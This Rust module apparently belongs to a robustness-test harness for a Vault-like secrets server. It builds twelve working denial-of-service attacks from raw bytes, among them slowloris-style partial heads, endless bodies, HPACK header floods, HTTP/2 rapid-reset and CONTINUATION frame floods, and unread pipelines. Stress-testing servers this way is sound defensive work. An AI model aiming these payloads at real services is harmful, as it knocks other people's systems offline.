//! The attacks: bytes of a client without a token. Each returns its connections, so that they stay open.

use std::io::{Read, Write};
use std::net::TcpStream;
use std::time::Duration;

use anyhow::Result;

use crate::rng::Rng;
use crate::servers::Server;

/// The states of a server in which an attack runs.
#[derive(Clone, Copy, PartialEq, Eq)]
pub(super) enum When {
    /// Unsealed servers only.
    Unsealed,
    /// Also sealed and uninitialized servers.
    Always,
}

/// An attack.
pub(super) struct Attack {
    pub(super) name: &'static str,
    pub(super) when: When,
    /// Whether root writes large secrets at the same time.
    pub(super) writes: bool,
    /// Runs the attack over this number of connections.
    pub(super) run: fn(&Server, &mut Rng, u64) -> Result<Connections>,
}

/// The connections of an attack, and the number of bytes sent on them.
#[derive(Default)]
pub(super) struct Connections {
    pub(super) sent: u64,
    streams: Vec<TcpStream>,
}

pub(super) const ATTACKS: [Attack; 12] = [
    Attack { name: "numbers", when: When::Unsealed, writes: false, run: numbers },
    Attack { name: "wrong tokens", when: When::Unsealed, writes: false, run: wrong_tokens },
    Attack { name: "header lists", when: When::Always, writes: true, run: header_lists },
    Attack { name: "header fields", when: When::Always, writes: false, run: header_fields },
    Attack { name: "endless bodies", when: When::Always, writes: true, run: endless_bodies },
    Attack { name: "streams with bodies", when: When::Unsealed, writes: true, run: streams_with_bodies },
    Attack { name: "large bodies", when: When::Unsealed, writes: true, run: large_bodies },
    Attack { name: "slow heads", when: When::Always, writes: true, run: slow_heads },
    Attack { name: "unread responses", when: When::Always, writes: false, run: unread_responses },
    Attack { name: "unread pipelines", when: When::Always, writes: false, run: unread_pipelines },
    Attack { name: "upgrades", when: When::Unsealed, writes: false, run: upgrades },
    Attack { name: "frames", when: When::Always, writes: false, run: frames },
];

impl Connections {
    /// Opens a connection and sends `bytes`. The server may close it at any time.
    fn send(&mut self, server: &Server, bytes: &[u8]) -> Result<()> {
        let mut stream = TcpStream::connect(server.url.trim_start_matches("http://"))?;
        // The server may also stop reading.
        stream.set_write_timeout(Some(Duration::from_secs(1)))?;
        for part in bytes.chunks(64 << 10) {
            if stream.write_all(part).is_err() {
                break;
            }
            self.sent += part.len() as u64;
        }
        self.streams.push(stream);
        Ok(())
    }

    /// As [`Connections::send`], then reads the response until the server closes or a timeout expires.
    fn exchange(&mut self, server: &Server, bytes: &[u8]) -> Result<()> {
        self.send(server, bytes)?;
        if let Some(mut stream) = self.streams.pop() {
            stream.set_read_timeout(Some(Duration::from_secs(20)))?;
            let _ = stream.read(&mut [0; 4096]);
        }
        Ok(())
    }

    fn each(server: &Server, count: u64, mut bytes: impl FnMut(u64) -> Vec<u8>) -> Result<Self> {
        let mut held = Connections::default();
        for n in 0..count {
            held.send(server, &bytes(n))?;
        }
        Ok(held)
    }
}

fn post(path: &str, headers: &str, length: usize, body: &str) -> Vec<u8> {
    format!("POST /v1/{path} HTTP/1.1\r\nHost: x\r\n{headers}Content-Length: {length}\r\n\r\n{body}").into_bytes()
}

/// Arrays of numbers, up to and above the size limit of unauthenticated requests, to known and unknown paths.
fn numbers(server: &Server, rng: &mut Rng, count: u64) -> Result<Connections> {
    let mut held = Connections::default();
    for _ in 0..count.min(20) {
        let length = 2000 << rng.below(10);
        let array = format!("[{}1]", "1,".repeat(999));
        let body = format!("{{\"a\":[{}1]}}", format!("{array},").repeat((length / array.len()).max(1)));
        let path = rng.pick(&["auth/approle/login", "kv/x", "nowhere/x"]);
        let headers = rng.pick(&["", "X-Vault-Token: hvs.wrong\r\n"]);
        held.exchange(server, &post(path, headers, body.len(), &body))?;
    }
    Ok(held)
}

/// Bodies with an invalid token.
fn wrong_tokens(server: &Server, rng: &mut Rng, count: u64) -> Result<Connections> {
    let mut held = Connections::default();
    for _ in 0..count.min(100) {
        let body = format!("{{\"a\":\"{}\"}}", "x".repeat(rng.below(1 << 20)));
        let token = format!("X-Vault-Token: hvs.{}\r\n", "w".repeat(rng.below(4000)));
        held.exchange(server, &post("kv/x", &token, body.len(), &body))?;
    }
    Ok(held)
}

/// The start of an HTTP/2 connection, with an initial window for responses.
fn http2(window: u32) -> Vec<u8> {
    let mut raw = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    let setting = [&[0, 4][..], &window.to_be_bytes()].concat();
    frame(&mut raw, 4, 0, 0, &setting);
    raw
}

fn frame(raw: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    raw.extend_from_slice(&(payload.len() as u32).to_be_bytes()[1..]);
    raw.extend_from_slice(&[kind, flags]);
    raw.extend_from_slice(&stream.to_be_bytes());
    raw.extend_from_slice(payload);
}

/// An HPACK header block with a method of the static table, scheme http and a path.
fn request(method: u8, path: &str) -> Vec<u8> {
    let mut fields = vec![method, 0x86, 0x04, path.len() as u8];
    fields.extend_from_slice(path.as_bytes());
    fields
}

const POST: u8 = 0x83;
const GET: u8 = 0x82;
const END_HEADERS: u8 = 4;
const END_STREAM: u8 = 1;

/// 100 streams with 1,900 indexed fields each and without their bodies.
fn header_lists(server: &Server, rng: &mut Rng, count: u64) -> Result<Connections> {
    Connections::each(server, count, |_| {
        let mut raw = http2(65_535);
        for n in 0..100 {
            let mut fields = request(POST, "/v1/auth/approle/login");
            // `a: ""` enters the dynamic table with the first stream.
            fields.extend_from_slice(if n == 0 { b"\x40\x01a\0" } else { b"\xbe" });
            fields.resize(fields.len() + 90 + rng.below(1800), 0xbe);
            frame(&mut raw, 1, END_HEADERS, 2 * n + 1, &fields);
        }
        raw
    })
}

/// HTTP/1 request heads with the maximum number of fields and without their bodies.
fn header_fields(server: &Server, rng: &mut Rng, count: u64) -> Result<Connections> {
    Connections::each(server, count, |_| {
        let fields: String =
            (0..60 + rng.below(39)).map(|n| format!("{}{n}:\r\n", (b'a' + n as u8 % 26) as char)).collect();
        post("auth/approle/login", &fields, 10, "{")
    })
}

/// The first byte of a body, and no more.
fn endless_bodies(server: &Server, rng: &mut Rng, count: u64) -> Result<Connections> {
    Connections::each(server, count, |_| post("auth/approle/login", "", 2 + rng.below(60_000), "{"))
}

/// 100 streams with up to 60,000 bytes of body each, limited by the windows.
fn streams_with_bodies(server: &Server, rng: &mut Rng, count: u64) -> Result<Connections> {
    Connections::each(server, count.min(100), |_| {
        let mut raw = http2(65_535);
        let length = 1 + rng.below(16_000);
        for n in 0..100 {
            frame(&mut raw, 1, END_HEADERS, 2 * n + 1, &request(POST, "/v1/auth/approle/login"));
        }
        for n in 0..100 {
            frame(&mut raw, 0, 0, 2 * n + 1, &vec![b'x'; length]);
        }
        raw
    })
}

/// 4 MB of a body of 30 MB, with a content length or chunked.
fn large_bodies(server: &Server, rng: &mut Rng, count: u64) -> Result<Connections> {
    Connections::each(server, count.min(60), |_| {
        let chunked = rng.below(2) == 0;
        let mut raw = if chunked {
            b"POST /v1/auth/approle/login HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n3d0900\r\n".to_vec()
        } else {
            post("kv/x", "", 30 << 20, "")
        };
        raw.resize(raw.len() + 4_000_000, b' ');
        raw
    })
}

/// Unfinished request heads of up to 60 KB.
fn slow_heads(server: &Server, rng: &mut Rng, count: u64) -> Result<Connections> {
    Connections::each(server, count, |_| {
        let length = 1 + rng.below(60_000);
        format!("GET /v1/sys/health HTTP/1.1\r\nHost: x\r\nX-A: {}", "x".repeat(length)).into_bytes()
    })
}

/// 100 requests whose responses cannot be sent completely, since the client's window is small.
fn unread_responses(server: &Server, rng: &mut Rng, count: u64) -> Result<Connections> {
    Connections::each(server, count, |_| {
        let mut raw = http2([0, 0, 1, 100][rng.below(4)]);
        for n in 0..100 {
            frame(&mut raw, 1, END_HEADERS | END_STREAM, 2 * n + 1, &request(GET, "/v1/sys/seal-status"));
        }
        raw
    })
}

/// Thousands of requests on one HTTP/1 connection whose responses are not read.
fn unread_pipelines(server: &Server, rng: &mut Rng, count: u64) -> Result<Connections> {
    Connections::each(server, count.min(60), |_| {
        let path = rng.pick(&["sys/seal-status", "sys/health?standbyok=true", "sys/leader"]);
        format!("GET /v1/{path} HTTP/1.1\r\nHost: x\r\n\r\n").repeat(2000).into_bytes()
    })
}

/// Upgrade requests, followed by bytes of the other protocol.
fn upgrades(server: &Server, rng: &mut Rng, count: u64) -> Result<Connections> {
    let kinds = [
        "Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n",
        "Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n",
        "Upgrade: TLS/1.2\r\nConnection: Upgrade\r\n",
    ];
    Connections::each(server, count, |_| {
        let line = rng.pick(&["GET /v1/sys/health", "CONNECT x:80"]);
        let mut raw = format!("{line} HTTP/1.1\r\nHost: x\r\n{}\r\n", rng.pick(&kinds)).into_bytes();
        raw.resize(raw.len() + rng.below(20_000), 0x81);
        raw
    })
}

/// Many frames, of one kind per connection.
fn frames(server: &Server, rng: &mut Rng, count: u64) -> Result<Connections> {
    Connections::each(server, count.min(48), |n| {
        let mut raw = http2(65_535);
        flood(&mut raw, n as usize, 20_000 + rng.below(50_000) as u32);
        raw
    })
}

/// Appends `count` frames that contain no complete request, or reset it.
fn flood(raw: &mut Vec<u8>, kind: usize, count: u32) {
    /// PRIORITY, SETTINGS, PING, WINDOW_UPDATE, an unknown type, RST_STREAM; empty and tiny DATA and CONTINUATION.
    const KINDS: [(u8, u32, &[u8]); 10] = [
        (2, 1, &[0, 0, 0, 0, 16]),
        (4, 0, &[]),
        (6, 0, &[0; 8]),
        (8, 0, &[0, 0, 0, 1]),
        (0xbe, 1, &[0; 16]),
        (3, 1, &[0, 0, 0, 8]),
        (0, 1, &[]),
        (0, 1, b" "),
        (9, 1, &[]),
        (9, 1, &[0x82]),
    ];
    let post = request(POST, "/v1/auth/approle/login");
    let Some((kind, stream, payload)) = KINDS.get(kind % (KINDS.len() + 2)) else {
        // Requests that are reset at once, or that ask for a tunnel.
        let fields: &[u8] = if kind.is_multiple_of(2) { b"\x02\x07CONNECT\x01\x04x:80" } else { &post };
        for id in (1..2 * count.min(2000)).step_by(2) {
            frame(raw, 1, END_HEADERS, id, fields);
            frame(raw, 3, 0, id, &[0, 0, 0, 8]);
        }
        return;
    };
    // CONTINUATION follows an incomplete header block.
    frame(raw, 1, if *kind == 9 { 0 } else { END_HEADERS }, 1, &post);
    (0..count).for_each(|_| frame(raw, *kind, 0, *stream, payload));
}
